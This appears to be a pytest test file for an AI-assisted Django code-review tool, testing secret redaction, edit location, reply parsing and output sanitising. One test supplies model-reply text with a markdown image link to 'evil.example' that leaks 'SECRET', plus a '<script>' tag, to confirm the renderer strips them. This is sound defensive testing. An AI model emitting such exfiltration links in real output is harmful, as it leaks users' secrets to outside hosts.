"""The AI step's pure parts: redaction, locating edits, reply parsing, settings."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import jsonschema
import pytest

from djreview.ai.guards import undefined_names
from djreview.ai.locate import NotLocated, locate
from djreview.ai.redact import redact
from djreview.ai.reply_schema import REPLY_SCHEMA, InvalidReply, parse_reply
from djreview.ai.settings import from_config
from djreview.ai.show import markdown
from djreview.config import ConfigError
from djreview.fix.apply import apply_edits
from djreview.model import Finding, Location, Severity


@pytest.mark.parametrize(
    "code",
    [
        'MIDDLEWARE = ["django.contrib.auth.middleware.AuthenticationMiddleware"]',
        'password = form.cleaned_data["password"]',
        'AUTH_PASSWORD_VALIDATORS = [{"NAME": "x"}]',
        'url = reverse("accounts:password_reset_confirm")',
        'TEMPLATE = "blog/templates/post_detail_with_comments.html"',
        'token = request.headers.get("X-Token", "")',
        'PASSWORD = ""',
    ],
)
def test_redaction_leaves_ordinary_code_alone(code):
    assert redact(code) == code


@pytest.mark.parametrize(
    ("code", "secret"),
    [
        ('SECRET_KEY = "abc"', "abc"),
        ("'PASSWORD': 'hunter2'", "hunter2"),
        ('connect(password="pa55word")', "pa55word"),
        ('AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"', "AKIAIOSFODNN7EXAMPLE"),
        ('REDIS = "redis://:s3cr3t@cache:6379/0"', "s3cr3t"),
        ('x = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"', "ghp_abcdefghij"),
        ('salt = "8f14e45fceea167a5a36dedd4bea2543"', "8f14e45fceea167a"),
    ],
)
def test_redaction_removes_secrets(code, secret):
    assert secret not in redact(code)


def test_locate_refuses_an_ambiguous_snippet():
    with pytest.raises(NotLocated, match="occurs 2 times"):
        locate("x = 1\nx = 1\n", "a.py", "x = 1", "x = 2")


def test_locate_strips_a_copied_margin_and_reindents():
    text = "def f():\n    if a:\n        b()\n    return 1\n"
    edit = locate(text, "a.py", ">>     if a:\n>>         b()", "if a:\n    c()\n    b()")
    expected = "def f():\n    if a:\n        c()\n        b()\n    return 1\n"
    assert apply_edits(text, [edit]) == expected


def test_reply_schema_is_what_parse_reply_accepts():
    good = {
        "verdict": "true_positive",
        "confidence": 0.5,
        "reason": "r",
        "explanation": "e",
        "fix": {"description": "d", "edits": [{"path": "p", "snippet": "s", "replacement": ""}]},
    }
    jsonschema.validate(good, REPLY_SCHEMA)
    assert parse_reply(json.dumps(good)).fix is not None
    strict = {
        **REPLY_SCHEMA,
        "properties": {
            **REPLY_SCHEMA["properties"],
            "confidence": {"type": "number", "minimum": 0, "maximum": 1},
        },
    }
    for bad in ({**good, "verdict": "maybe"}, {**good, "confidence": 2}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, strict)
        with pytest.raises(InvalidReply):
            parse_reply(json.dumps(bad))


def test_a_malformed_patch_keeps_the_verdict_and_explanation():
    malformed = {
        "verdict": "true_positive",
        "confidence": 0.8,
        "reason": "r",
        "explanation": "e",
        "fix": {"description": "d", "edits": [{"path": "p", "snippet": "s"}]},
    }
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(malformed, REPLY_SCHEMA)
    parsed = parse_reply(json.dumps({**malformed, "notes": "extra keys are ignored"}))
    assert (parsed.verdict, parsed.explanation, parsed.fix) == ("true_positive", "e", None)
    assert "fix.edits[0].replacement must be a string" in parsed.fix_dropped


def test_a_patch_under_another_verdict_is_ignored():
    text = json.dumps(
        {
            "verdict": "false_positive",
            "confidence": 0.9,
            "reason": "r",
            "explanation": "e",
            "fix": {
                "description": "d",
                "edits": [{"path": "p", "snippet": "s", "replacement": "r"}],
            },
        }
    )
    parsed = parse_reply(text)
    assert parsed.fix is None and "verdict false_positive" in parsed.fix_dropped


def test_settings_from_the_table_and_environment(tmp_path: Path):
    env = {"MY_KEY": "k", "OPENAI_BASE_URL": "http://localhost:11434/v1"}
    settings = from_config(
        {
            "model": "llama3.1",
            "api-key-env": "MY_KEY",
            "budget-usd": 0.5,
            "prices": {"llama3.1": {"input": 0, "output": 0}},
            "cache-dir": str(tmp_path),
        },
        env,
    )
    assert settings.api_key == "k" and settings.base_url == "http://localhost:11434/v1"
    assert settings.price() == (0.0, 0.0) and settings.budget_usd == 0.5
    assert settings.cache_dir == tmp_path
    assert settings.missing() is None
    assert from_config({}, {}).missing() is not None
    with pytest.raises(ConfigError, match="budget-tokens"):
        from_config({"budget-tokens": -1}, {})


def test_sarif_markdown_keeps_the_text_of_model_links_only():
    finding = Finding(
        "DJR301",
        "mark-safe-on-variable",
        "m",
        Severity.WARNING,
        Location("a.py", 1),
        properties=(
            ("ai.confidence", "0.90"),
            ("ai.model", "m"),
            ("ai.prompt_version", "v"),
            ("ai.reason", "see [docs](https://evil.example/?k=1)"),
            ("ai.explanation", "![x](https://evil.example/p.png?s=SECRET) use <script>"),
            ("ai.verdict", "true_positive"),
        ),
    )
    text = markdown(finding)
    assert "evil.example" not in text and "<script>" not in text
    assert "see docs" in text and "`true_positive`, confidence 0.90" in text


def test_locate_matches_by_tokens_across_quote_style_and_withheld_comments():
    text = (
        "def go(request):\n"
        "    # planted: open-redirect — follows ?next= [open_redirect]\n"
        '    target = request.GET.get("next", "/")\n'
        "    return redirect(target)\n"
    )
    snippet = "    target = request.GET.get('next', '/')\n    return redirect(target)"
    replacement = "    target = request.GET.get('next', '/')\n    return redirect(safe(target))"
    edit = locate(text, "a.py", snippet, replacement)
    assert apply_edits(text, [edit]).endswith("    return redirect(safe(target))\n")


def test_locate_gives_a_redacted_secret_its_value_back():
    text = 'KEY = "q8v2m0r7w1z4h6b9n3c5e"\n'
    edit = locate(text, "s.py", 'KEY = "<redacted>"', 'KEY = env("KEY", default="<redacted>")')
    assert apply_edits(text, [edit]) == 'KEY = env("KEY", default="q8v2m0r7w1z4h6b9n3c5e")\n'
    with pytest.raises(NotLocated, match="withheld"):
        locate(text, "s.py", "KEY = ", 'KEY = "<redacted>"')


def test_a_name_the_patch_never_defines_or_imports_is_caught():
    old = ast.parse("from django.shortcuts import redirect\n\ndef go(r):\n    return redirect(r)\n")
    new = ast.parse(
        "from django.shortcuts import redirect\n\ndef go(r):\n    return redirect(is_safe(r))\n"
    )
    assert "`is_safe`" in (undefined_names(old, new) or "")
    fine = ast.parse("from x import is_safe\nfrom django.shortcuts import redirect\n")
    assert undefined_names(old, fine) is None
